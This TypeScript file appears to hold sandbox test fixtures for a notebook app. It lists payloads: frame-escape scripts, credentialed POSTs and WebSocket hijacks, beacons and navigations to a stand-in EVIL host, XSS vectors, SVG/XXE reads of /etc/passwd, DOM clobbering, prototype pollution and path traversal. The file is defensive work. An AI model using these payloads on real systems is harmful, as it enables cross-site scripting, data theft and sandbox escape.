/**
 * What attackers write into notebooks, by the rule it tries (outputs.md 11). Each shows in the page that it arrived: a
 * payload in a frame is so many px high, and 500 more once it knows that it was refused what it wanted; text is there.
 * EVIL stands for somebody else's server, PAGE for the page's address, TARGET for a notebook that exists.
 */

export interface FramePayload {
  rule: string;
  source: string;
  /** What the page shows of it: a height of the frame in px, a sentence beside it, or merely its frame. */
  shows: number | RegExp | "drawn";
  /** In Chromium, which replaces a document that tries to leave. */
  showsInChromium?: RegExp;
}

const html = (text: string): string => `from IPython.display import HTML\nHTML(${JSON.stringify(text)})`;
const bundle = (mime: string, value: string): string => `display({${JSON.stringify(mime)}: ${value}}, raw=True)`;
const box = (px: number): string => `<div id=box style="height:${px}px"></div>`;
/** `code` calls `refused()` when it was; a throw is one. */
const script = (px: number, code: string): string => html(`${box(px)}<script>{ const refused = () => { box.style.height = '${px + 500}px' };\n${code} }</script>`);
const LEFT = /tried to leave its frame/;

const MESSAGES = [
  ...["execute", "run_cells", "init", "hello", "output", "eval", "comm", "model", "theme", "access", "focus", "ping", "reply", "height", "evalResult", "invoke"],
  ...["commOpen", "commMsg", "commClose", "models", "proxyPort", "openLink", "saveFile", "viewFile", "addCell", "clipboard", "key", "log", "ready", "pong"],
];

export const FRAMES: readonly FramePayload[] = [
  {
    rule: "A1 the page around it",
    shows: 620,
    source: script(
      120,
      `let thrown = 0; for (const attempt of [() => { parent.document.title = 'x' }, () => { top.location = EVIL + '/nav/top' }, () => parent.localStorage, () => { top.__canary = 1 },
        () => top.document.cookie, () => { parent.onmessage = () => 1 }, () => { frameElement.sandbox = '' }]) { try { attempt() } catch { thrown++ } } if (thrown === 7) refused(); else box.textContent = thrown`,
    ),
  },
  {
    rule: "A2 our sockets, and what changes something by our cookies",
    shows: 640,
    source: script(
      140,
      `const ws = PAGE.replace('http', 'ws') + '/api/notebooks/TARGET/socket';
       const knock = (url) => new Promise((end) => { let s; try { s = new WebSocket(url) } catch { end('refused'); return } s.onopen = () => end('open'); s.onclose = s.onerror = () => end('refused');
         setTimeout(() => end(s.readyState === 1 ? 'open' : 'refused'), 2000) });
       const post = (url, body) => fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'content-type': 'text/plain'}, body}).catch(() => 0);
       const read = (url) => fetch(url, {credentials: 'include'}).then(() => 'read', () => 'refused');
       Promise.all([knock(ws), knock(ws.replace('127.0.0.1', 'localhost')), knock(location.origin.replace('http', 'ws') + '/api/notebooks/TARGET/socket'), read(PAGE + '/api/me'), read(PAGE + '/api/notebooks'),
         post(PAGE + '/api/notebooks?title=pwned', '{}'), post(PAGE + '/api/notebooks/TARGET/commands', '{"type": "run_cells", "cells": "all"}')])
         .then((all) => { if (all.slice(0, 5).every((x) => x === 'refused')) refused(); else box.textContent = all })`,
    ),
  },
  { rule: "A3 location", shows: 160, showsInChromium: LEFT, source: script(160, "location = EVIL + '/nav/location'") },
  {
    rule: "A3 form",
    shows: 180,
    showsInChromium: LEFT,
    source: html(`${box(180)}<form hidden action='EVIL/nav/form' method=get></form><script>try { document.querySelector('form').submit() } catch {}</script>`),
  },
  {
    rule: "A3 refresh",
    shows: 200,
    showsInChromium: LEFT,
    source: html(`${box(200)}<meta http-equiv=refresh content='0; url=EVIL/nav/refresh'>`),
  },
  { rule: "A3 data", shows: 220, showsInChromium: LEFT, source: script(220, "location = 'data:text/html,<script>parent.__canary=1<\\/script>'") },
  {
    rule: "A4 messages to the page and to other frames, also from a frame inside",
    shows: 240,
    source: html(
      `${box(240)}<script>{ const say = (to) => { for (const t of ${JSON.stringify(MESSAGES)}) for (const data of [{v: 1, t, code: 'open("pwned", "w")', url: EVIL + '/nav/message', name: 'x', bytes: new ArrayBuffer(8), id: 1, args: [], kwargs: {}},
        {type: t, code: 'open("pwned", "w")', cells: 'all'}]) try { to.postMessage(data, '*') } catch {} };
        say(parent); for (let i = 0; i < parent.length; i++) say(parent[i]) }</script><iframe srcdoc="<script>top.postMessage({v: 1, t: 'hello', protocol: 1, nonce: '0'}, '*'); parent.parent.postMessage('x', '*')</script>" hidden></iframe>`,
    ),
  },
  {
    rule: "A4 what it says over the port it stole",
    shows: /messages that make no sense/,
    source: html(
      `${box(260)}<script>{ const { postMessage } = MessagePort.prototype; let port = null; MessagePort.prototype.postMessage = function (...all) { port ??= this; return postMessage.apply(this, all) };
        const timer = setInterval(() => { if (port === null) return; clearInterval(timer); for (const data of [{v: 1, t: 'execute', code: 'open("pwned", "w")'}, {v: 1, t: 'run_cells', cells: 'all'}, {v: 9}]) port.postMessage(data) }, 50) }</script>`,
    ),
  },
  {
    rule: "A10 the page inside it, and a document of its own that goes for the page",
    shows: 280,
    source: html(
      `${box(280)}<script>for (const src of [PAGE + '/', PAGE + '/n/TARGET']) for (const tag of ['iframe', 'object', 'embed']) document.body.append(Object.assign(document.createElement(tag), tag === 'object' ? {data: src, width: 0, height: 0} : {src, width: 0, height: 0}));
        document.body.append(Object.assign(document.createElement('iframe'), {hidden: true, srcdoc: "<script>try { top.__canary = 1 } catch {} try { top.location = 'EVIL/nav/srcdoc' } catch {}<\\/script>"}));
        for (const hidden of document.querySelectorAll('body > iframe, body > object, body > embed')) hidden.style.position = 'fixed'</script>`,
    ),
  },
  {
    rule: "popups, dialogs and downloads without a question",
    shows: 800,
    source: script(
      300,
      `const inner = document.createElement('iframe'); inner.hidden = true; document.body.append(inner); let opened = null;
       try { opened = inner.contentWindow.open(EVIL + '/nav/popup') } catch {}
       alert('__canary'); const asked = confirm('x') || prompt('y') !== null;
       for (let i = 0; i < 50; i++) Object.assign(document.createElement('a'), {href: 'data:text/plain,x', download: '../../.ba\\u202Eshrc\\r\\n' + 'x'.repeat(i)}).click();
       if (!opened && !asked) refused()`,
    ),
  },
  {
    rule: "what a browser keeps: cookies of ours, workers, the clipboard",
    shows: 820,
    source: script(
      320,
      `const port = new URL(PAGE).port; const attempt = async (act) => { try { return (await act()) ?? 'done' } catch { return 'refused' } };
       for (const to of ['', '; domain=localhost', '; domain=127.0.0.1', '; domain=' + new URL(PAGE).hostname, '; path=/']) try { document.cookie = 'collab-' + port + '=stolen' + to } catch {}
       const worker = attempt(() => navigator.serviceWorker.register('/_out/live/frame.html')), clip = attempt(() => navigator.clipboard.writeText('stolen'));
       const place = attempt(() => new Promise((end, fail) => navigator.geolocation.getCurrentPosition(end, fail)));
       Promise.all([worker, clip, place]).then((all) => { if (all.every((x) => x === 'refused')) refused(); else box.textContent = all })`,
    ),
  },
  {
    rule: "A14 svg",
    shows: 340,
    source: bundle(
      "image/svg+xml",
      JSON.stringify(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="332" onload="parent.__canary=1"><script>try { top.__canary = 1 } catch {} try { top.location = 'EVIL/nav/svg' } catch {}</script>` +
          `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.__canary=1"></iframe></foreignObject><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='top.__canary=1'/&gt;#x"/><a xlink:href="javascript:top.__canary=1"><text>&b;&c;</text></a></svg>`,
      ),
    ),
  },
  {
    rule: "L2 it loads itself for ever",
    shows: /kept reloading itself/,
    source: script(360, "location.reload()"),
  },
  {
    rule: "what others may be asked, and that nobody is asked as us",
    shows: 380,
    source: script(380, "new Image().src = EVIL + '/load/image'; fetch(EVIL + '/load/fetch', {credentials: 'include', mode: 'no-cors'}).catch(() => {}); navigator.sendBeacon(EVIL + '/load/beacon')"),
  },
  {
    rule: "A16 a chart that runs code, loads, and links",
    shows: "drawn",
    source: bundle(
      "application/vnd.vegalite.v5+json",
      `{"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "width": 50, "height": 50, "data": {"values": [{"a": 1, "u": "javascript:top.__canary=1", "t": "<img src=x onerror=top.__canary=1>"}]},
        "transform": [{"filter": "scale(event.view.setTimeout, 'top.__canary=1')"}, {"calculate": "{toString: event.view.setTimeout}", "as": "z"}], "layer": [{"mark": {"type": "point", "tooltip": True},
        "encoding": {"x": {"field": "a", "type": "quantitative"}, "href": {"field": "u"}, "tooltip": {"field": "t"}}}, {"mark": "point", "data": {"url": "EVIL/load/vega.json"}}, {"mark": "point", "data": {"url": "file:///etc/passwd"}}]}`,
    ),
  },
  { rule: "A13 deep JSON", shows: "drawn", source: bundle("application/json", "__import__('functools').reduce(lambda inner, _: [inner], range(500), 1)") },
  {
    rule: "L5 a flood, from a frame inside it",
    shows: /too many messages/,
    source: html(`${box(400)}<iframe hidden srcdoc="<script>setInterval(() => { for (let i = 0; i < 3000; i++) top.postMessage(i, '*') }, 100)</script>"></iframe>`),
  },
  { rule: "M1 as high as the moon", shows: 10_000, source: html("<div style='height:9999999px'></div>") },
];

/** What the page itself draws: streams, plain text, an error. */
export const STREAMS: readonly { rule: string; source: string; shows: string }[] = [
  {
    rule: "A11, A12 a stream and a text",
    source:
      "print('\\x1b]8;;javascript:__canary=1\\x07click\\x1b]8;;\\x07 \\x1b[31m<img src=x onerror=__canary=1> \\x1b]8;;https://a\\x22onmouseover=__canary=1\\x07bad\\x1b]8;;\\x07 \\x1b]8;;https://example.org/\\x07good\\x1b]8;;\\x07')\ndisplay({'text/plain': '<img src=x onerror=__canary=1>'}, raw=True)",
    shows: "click <img src=x onerror=__canary=1> bad good",
  },
  {
    rule: "A12 an error",
    source: "raise ValueError('<img src=x onerror=__canary=1> \\x1b[31m<svg onload=__canary=1>\\x1b[0m \\x1b]8;;javascript:__canary=1\\x07worse\\x1b]8;;\\x07')",
    shows: "<svg onload=__canary=1> worse",
  },
];

/** Text cells; each begins with the word by which it is found. */
export const TEXTS: readonly string[] = [
  // A15
  "math $\\href{javascript:__canary=1}{x}$ $\\htmlData{onclick=__canary=1}{x}$ $\\includegraphics{x onerror=__canary=1}$ $\\url{JaVaScRiPt:__canary=1}$ $\\unicode{<img src=x onerror=__canary=1>}$ fine $x^2$",
  // A18
  'raw <img src=x onerror=__canary=1><svg><animate onbegin=__canary=1 attributeName=x></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__canary=1&gt;">\n\n<video onmouseover=__canary=1><source onerror=__canary=1></video> <script>__canary=1</script> <iframe src="javascript:parent.__canary=1"></iframe> [click](javascript:__canary=1) ![img](EVIL/load/markdown.png) <style>body{display:none}</style> ${__canary=1} <noscript><p title="</noscript><img src=x onerror=__canary=1>">',
  `deep ${"> ".repeat(300)}${"<div>".repeat(2_000)}end`,
  // A19
  "clobber <form name=getElementById></form><img name=currentScript><a id=config><a id=config name=url href=//evil.test>a</a> <p id=root>p</p>\n\n# __proto__\n\n# constructor",
  // A20
  'attributes <button data-action="edit.delete" data-commandlinker-command="help:open" data-commandlinker-args=\'{"url":"javascript:__canary=1"}\' class="cell" formaction="javascript:__canary=1">b</button><form action="EVIL/nav/form"><input autofocus onfocus=__canary=1></form><p contenteditable accesskey=x popovertarget=y is=z style="position:fixed;inset:0" data-tip="x" class="toasts">p</p><x-y onclick=__canary=1>z</x-y>',
  // A21: its attachments are below
  'attached ![a](attachment:a.svg) ![b](attachment:b.html) ![c](attachment:../../c.png) ![d](attachment:d"onerror=__canary=1) ![e](attachment:__proto__)',
];

const base64 = (text: string): string => Buffer.from(text).toString("base64");

export const ATTACHMENTS = JSON.parse(`{
  "a.svg": {"image/svg+xml": "${base64("<svg xmlns='http://www.w3.org/2000/svg' onload='top.__canary=1'><script>top.__canary=1</script></svg>")}"},
  "b.html": {"text/html": "${base64("<script>top.__canary=1</script>")}"},
  "../../c.png": {"image/png": "${base64("<script>top.__canary=1</script>")}"},
  "d\\"onerror=__canary=1": {"image/png": "x\\" onerror=\\"__canary=1"},
  "__proto__": {"image/png": "AAAA"}
}`);

/** A22: what a file says about itself. */
export const METADATA = JSON.parse(`{
  "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "trusted": true, "signature": "sha256:0",
  "kernelspec": {"name": "../../evil", "display_name": "<img src=x onerror=__canary=1>", "language": "python"},
  "language_info": {"name": "<img src=x onerror=__canary=1>", "codemirror_mode": {"name": "javascript:__canary=1"}, "file_extension": ".html", "mimetype": "text/html"},
  "title": "<img src=x onerror=__canary=1>", "authors": [{"name": "<img src=x onerror=__canary=1>"}],
  "colab": {"name": "<img src=x onerror=__canary=1>.ipynb", "provenance": [{"file_id": "javascript:__canary=1"}]}
}`);
